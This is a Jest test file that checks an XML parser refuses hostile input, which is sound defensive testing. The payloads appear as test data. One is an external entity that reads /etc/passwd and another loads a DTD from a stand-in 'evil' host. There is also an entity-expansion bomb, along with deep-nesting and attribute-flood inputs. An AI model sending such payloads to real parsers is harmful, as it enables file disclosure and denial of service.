import { describe, expect, it } from '@jest/globals';
import { FlowProcessingError } from '@sluice/domain';
import { parseXml } from './index.js';

describe('hostile XML', () => {
  it.each([
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['an external parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil/x.dtd"> %x;]><a>&y;</a>'],
    [
      'entities that multiply',
      `<!DOCTYPE a [<!ENTITY a "x">${Array.from({ length: 20 }, (_, n) => `<!ENTITY a${n} "${`&a${n === 0 ? '' : n - 1};`.repeat(20)}">`).join('')}]><a>&a19;</a>`,
    ],
    ['deep nesting', '<a>'.repeat(200_000)],
    ['many attributes', `<a ${Array.from({ length: 5_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`],
  ])('is refused: %s', (_, xml) => {
    expect(() => parseXml(xml)).toThrow(FlowProcessingError);
  });

  it('skips an external document type without reading it', () => {
    expect(parseXml('<!DOCTYPE cXML SYSTEM "http://evil/x.dtd"><cXML>t</cXML>').text).toBe('t');
  });
});
